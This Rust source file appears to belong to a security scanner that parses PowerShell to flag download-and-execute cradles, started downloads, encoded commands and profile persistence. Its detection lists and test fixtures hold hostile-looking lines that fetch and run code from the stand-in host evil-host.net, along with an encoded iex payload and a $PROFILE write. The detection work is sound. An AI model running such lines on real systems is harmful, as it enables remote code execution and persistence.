//! PowerShell read as a syntax tree (tree-sitter-powershell): downloads that reach
//! `Invoke-Expression` through a variable, files downloaded and then started (`-OutFile`,
//! `DownloadFile`, then `Start-Process`, `&`, `.\file`), commands given as
//! `-EncodedCommand` base64 (decoded from UTF-16LE and read again as PowerShell), and writes
//! to the profile script, which runs at every start. What one line shows (`iwr … | iex`, a
//! TCP client wired to `iex`, Run keys, scheduled tasks, credential files read, the encoded
//! command itself) stays with the line readers, which read every PowerShell file too: one
//! finding per fact.

use super::engine::{Engine, Lang};
use super::node_text;
use super::value::Origin;
use crate::commands::address_in;

const RUNS_TEXT: &[&str] = &["iex", "invoke-expression"];
const DOWNLOADERS: &[&str] =
    &["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl", "wget", "start-bitstransfer"];
const DOWNLOAD_METHODS: &[&str] = &["downloadstring(", "downloaddata(", "downloadfile(", "getstringasync("];
const POWERSHELLS: &[&str] = &["powershell", "powershell.exe", "pwsh", "pwsh.exe"];
/// The parameters a downloader writes its file to (any prefix PowerShell accepts is not
/// needed: these are how scripts spell them).
const OUT_FILE: &[&str] = &["-outfile", "-o", "--output", "-destination"];
/// Commands that start the file they are given: a program, an installer or a script.
const STARTERS: &[&str] = &[
    "start-process",
    "saps",
    "start",
    "invoke-item",
    "ii",
    "cmd",
    "cmd.exe",
    "msiexec",
    "msiexec.exe",
    "rundll32",
    "rundll32.exe",
    "regsvr32",
    "regsvr32.exe",
    "wscript",
    "wscript.exe",
    "cscript",
    "cscript.exe",
    "mshta",
    "mshta.exe",
];

/// One command of a pipeline: its name, lower-cased, and its arguments as written.
struct Command<'a> {
    name: String,
    args: Vec<&'a str>,
    start: usize,
    end: usize,
}

pub fn walk(eng: &mut Engine, code: &str, base: usize) {
    let language: tree_sitter::Language = tree_sitter_powershell::LANGUAGE.into();
    let Some(tree) = super::tree_sitter_parse(&language, code) else { return };
    // Variables assigned a download, and files a download is written to: (`$name` or the
    // path, as [`as_target`] writes it; where).
    let mut downloaded: Vec<(String, Origin)> = Vec::new();
    let mut stack = vec![tree.root_node()];
    while let Some(node) = stack.pop() {
        match node.kind() {
            "assignment_expression" => {
                if let (Some(left), Some(value)) = (node.child(0), node.child(node.child_count().saturating_sub(1)))
                    && let Some(how) = download_in(node_text(code, value))
                {
                    let name = node_text(code, left).trim().to_ascii_lowercase();
                    let what = format!("downloads with {how}");
                    let source = address_in(node_text(code, value));
                    downloaded.push((name, Origin { source, at: base + node.start_byte(), what }));
                }
            }
            "command" => {
                if let Some(command) = command_of(code, node) {
                    read_command(eng, base, &command, &downloaded);
                    if let Some(file) = written_by_downloader(&command) {
                        let what = format!("{} downloads to {file}", command.name);
                        let source = address_in(node_text(code, node));
                        downloaded.push((file, Origin { source, at: base + node.start_byte(), what }));
                    }
                }
            }
            // `(New-Object Net.WebClient).DownloadFile($url, $path)`.
            kind if kind.starts_with("invokation") || kind.starts_with("invocation") => {
                let call = node_text(code, node);
                if let Some(file) = downloadfile_target(call) {
                    let what = format!("DownloadFile downloads to {file}");
                    downloaded.push((file, Origin { source: address_in(call), at: base + node.start_byte(), what }));
                }
            }
            _ => {}
        }
        let mut cursor = node.walk();
        let children: Vec<_> = node.children(&mut cursor).collect();
        stack.extend(children.into_iter().rev());
    }
}

fn command_of<'a>(code: &'a str, node: tree_sitter::Node) -> Option<Command<'a>> {
    let name_node = node.child_by_field_name("command_name").or_else(|| {
        let mut cursor = node.walk();
        node.children(&mut cursor).find(|c| c.kind() == "command_name" || c.kind() == "command_name_expr")
    })?;
    let name = node_text(code, name_node).trim_matches(['"', '\'']).to_ascii_lowercase();
    let mut args = Vec::new();
    let mut cursor = node.walk();
    for child in node.children(&mut cursor).filter(|c| c.kind() == "command_elements") {
        let mut inner = child.walk();
        for element in child.named_children(&mut inner).filter(|e| e.kind() != "command_argument_sep") {
            args.push(node_text(code, element));
        }
    }
    Some(Command { name, args, start: node.start_byte(), end: node.end_byte() })
}

/// The download a piece of code makes, by its cmdlet or method.
fn download_in(code: &str) -> Option<&'static str> {
    let lower = code.to_ascii_lowercase();
    let words: Vec<&str> = lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.')).collect();
    DOWNLOADERS
        .iter()
        .find(|d| words.contains(d))
        .or_else(|| DOWNLOAD_METHODS.iter().find(|m| lower.contains(*m)))
        .copied()
}

/// A path or variable as a target is compared: lower-cased, without quotes or a leading `.\`.
fn as_target(text: &str) -> String {
    let text = text.trim().trim_matches(['"', '\'']).to_ascii_lowercase();
    text.strip_prefix(".\\").or_else(|| text.strip_prefix("./")).unwrap_or(&text).to_string()
}

/// The file a downloader's command writes (`iwr URL -OutFile PATH`).
fn written_by_downloader(c: &Command) -> Option<String> {
    if !DOWNLOADERS.contains(&c.name.as_str()) {
        return None;
    }
    let at = c.args.iter().position(|a| OUT_FILE.contains(&a.to_ascii_lowercase().as_str()))?;
    c.args.get(at + 1).map(|file| as_target(file)).filter(|f| !f.is_empty())
}

/// The second argument of a `DownloadFile(url, path)` call.
fn downloadfile_target(call: &str) -> Option<String> {
    let lower = call.to_ascii_lowercase();
    let args = call.get(lower.find("downloadfile(")? + "downloadfile(".len()..)?;
    let args = args.get(..args.rfind(')')?)?;
    let (_, path) = args.split_once(',')?;
    Some(as_target(path)).filter(|p| !p.is_empty())
}

fn read_command(eng: &mut Engine, base: usize, c: &Command, downloaded: &[(String, Origin)]) {
    let (start, end) = (base + c.start, base + c.end);
    let args_lower: Vec<String> = c.args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let name = c.name.as_str();
    // A downloaded file started: by name (`.\a.exe`, `& $out`) or handed to a starter.
    let target = as_target(name);
    let started = downloaded.iter().find(|(file, _)| {
        target == *file
            || (STARTERS.contains(&name) && args_lower.iter().any(|a| as_target(a) == *file || mentions(a, file)))
    });
    if let Some((file, origin)) = started {
        eng.flow("remote-code-run", start, end, origin, &format!("starts {file}"));
        return;
    }
    if RUNS_TEXT.contains(&name) {
        // A variable that holds a download, run: the one-line cradle is the line readers'.
        for (var, origin) in downloaded {
            if args_lower.iter().any(|a| mentions(a, var)) {
                eng.flow("remote-code-run", start, end, origin, &format!("runs it with {name}"));
                return;
            }
        }
    }
    if POWERSHELLS.contains(&name)
        && let Some(i) = args_lower.iter().position(|a| is_encoded_flag(a))
        && let Some(payload) = c.args.get(i + 1)
        && let Some(decoded) = utf16_base64(payload.trim_matches(['"', '\'']))
    {
        // The encoded command itself is the line readers' finding; what it holds is read here.
        let why = format!("in the encoded command ({})", first_words(&decoded));
        eng.rescan(&decoded, Lang::PowerShell, start, end, &why);
    }
    if matches!(name, "add-content" | "ac" | "set-content" | "sc" | "out-file")
        && args_lower.iter().any(|a| a.trim_matches(['"', '\'']).starts_with("$profile"))
    {
        eng.sink.report(
            "persistence-shell-rc",
            start,
            end,
            format!("{name} writes to the PowerShell profile, run at every start"),
        );
    }
}

/// `-e`, `-ec`, `-en`, `-enc`, … `-encodedcommand`: PowerShell takes any prefix of a parameter.
fn is_encoded_flag(arg: &str) -> bool {
    let flag = arg.trim_start_matches('-');
    arg.starts_with('-') && (flag == "e" || flag == "ec" || (flag.len() >= 2 && "encodedcommand".starts_with(flag)))
}

fn mentions(arg: &str, var: &str) -> bool {
    arg.match_indices(var)
        .filter_map(|(i, _)| arg.get(i + var.len()..))
        .any(|after| after.chars().next().is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_')))
}

/// An `-EncodedCommand` payload: base64 of UTF-16LE text (UTF-8 accepted too).
fn utf16_base64(s: &str) -> Option<String> {
    let bytes = super::value::base64(s)?;
    let text = if bytes.len() >= 4 && bytes.len() % 2 == 0 && bytes.iter().skip(1).step_by(2).all(|b| *b == 0) {
        let (pairs, _) = bytes.as_chunks::<2>();
        let units: Vec<u16> = pairs.iter().map(|&pair| u16::from_le_bytes(pair)).collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    (text.trim().len() >= 4 && text.chars().all(|c| !c.is_control() || c.is_whitespace())).then_some(text)
}

fn first_words(text: &str) -> String {
    let one_line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    match one_line.char_indices().nth(60) {
        Some((i, _)) => format!("{}…", one_line.get(..i).unwrap_or_default()),
        None => one_line,
    }
}

#[cfg(test)]
// Tests index their own fixed fixtures.
#[allow(clippy::indexing_slicing, clippy::string_slice)]
mod tests {
    use crate::scan_text;

    fn ids(path: &str, text: &str) -> Vec<(&'static str, &'static str)> {
        let mut ids: Vec<_> = scan_text(path, text).iter().map(|f| (f.rule.id, f.severity.as_str())).collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    }

    /// Scripts judge running a download by its address as shell lines do: a well-known installer
    /// is a note, an address no host answers to a placeholder, any other host remote code.
    #[test]
    fn running_a_download_is_judged_by_its_address() {
        let rule = |path: &str, code: &str| {
            let found = ids(path, code);
            found.into_iter().map(|(id, _)| id).find(|id| id.starts_with("remote-code")).unwrap_or_default()
        };
        let choco =
            "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n";
        assert_eq!(rule("install.ps1", choco), "remote-code-installer");
        assert_eq!(
            rule("setup.sh", "#!/bin/sh\ncurl -sSf https://sh.rustup.rs | sh -s -- -y\n"),
            "remote-code-installer"
        );
        assert_eq!(
            rule("setup.sh", "#!/bin/sh\ncurl -fsSL https://example.com/i.sh | sh\n"),
            "remote-code-placeholder"
        );
        assert_eq!(rule("setup.sh", "#!/bin/sh\ncurl -fsSL https://evil-host.net/i.sh | sh\n"), "remote-code-run");
        let evil = choco.replace("community.chocolatey.org", "evil-host.net");
        assert_eq!(rule("install.ps1", &evil), "remote-code-run");
    }

    #[test]
    fn a_download_kept_in_a_variable_and_run_is_remote_code() {
        let ps = "$u = 'https://dl.evil-host.net/a.ps1'\n$s = (New-Object Net.WebClient).DownloadString($u)\nWrite-Host 'ok'\nInvoke-Expression $s\n";
        assert!(ids("setup.ps1", ps).contains(&("remote-code-run", "critical")), "{:?}", ids("setup.ps1", ps));
        let saved = "$s = Invoke-WebRequest -Uri 'https://dl.evil-host.net/notes.txt'\nWrite-Output $s.Content\n";
        assert!(!ids("fetch.ps1", saved).iter().any(|(id, _)| *id == "remote-code-run"));
    }

    /// A file downloaded and then started, by name or through a starter, is remote code;
    /// downloaded and only read, it is not.
    #[test]
    fn a_downloaded_file_started_is_remote_code() {
        let runs = |ps: &str| ids("setup.ps1", ps).iter().any(|(id, _)| *id == "remote-code-run");
        assert!(runs(
            "Invoke-WebRequest -Uri 'https://dl.evil-host.net/a.exe' -OutFile \"$env:TEMP\\a.exe\"\nStart-Process \"$env:TEMP\\a.exe\"\n"
        ));
        assert!(runs(
            "$out = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('https://dl.evil-host.net/a.exe', $out)\n& $out\n"
        ));
        assert!(runs("iwr https://dl.evil-host.net/a.ps1 -OutFile a.ps1\n.\\a.ps1\n"));
        assert!(runs("iwr https://dl.evil-host.net/s.msi -OutFile s.msi\nmsiexec /i s.msi /qn\n"));
        assert!(!runs("iwr https://dl.evil-host.net/data.csv -OutFile data.csv\nImport-Csv data.csv\n"));
        assert!(!runs("iwr https://dl.evil-host.net/a.exe -OutFile a.exe\nStart-Process notepad.exe\n"));
    }

    #[test]
    fn encoded_commands_are_decoded_and_read() {
        // "iex (iwr https://dl.evil-host.net/x.ps1)" as UTF-16LE, base64.
        let payload: Vec<u8> =
            "iex (iwr https://dl.evil-host.net/x.ps1)".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let b64 = base64_encode(&payload);
        let ps = format!("powershell.exe -NoProfile -EncodedCommand {b64}\n");
        let found = ids("run.ps1", &ps);
        // The line reader reports the encoded command itself; the parser reads what it holds.
        assert!(found.contains(&("obfuscated-exec", "critical")), "{found:?}");
        assert!(found.iter().any(|(id, _)| *id == "remote-code-run"), "{found:?}");
        assert!(ids("run.ps1", "powershell.exe -NoProfile -File .\\build.ps1\n").is_empty());
    }

    #[test]
    fn writes_to_the_profile_persist() {
        let profile = "Add-Content -Path $PROFILE -Value 'iex (gc C:\\x.txt -Raw)'\n";
        assert!(
            ids("p.ps1", profile).iter().any(|(id, _)| *id == "persistence-shell-rc"),
            "{:?}",
            ids("p.ps1", profile)
        );
        let reads = "Get-Content $PROFILE\nWrite-Output \"profile at $PROFILE\"\n";
        assert!(ids("p.ps1", reads).is_empty(), "{:?}", ids("p.ps1", reads));
    }

    fn base64_encode(bytes: &[u8]) -> String {
        const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
            for i in 0..4 {
                if i <= chunk.len() {
                    out.push(ABC[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }
}
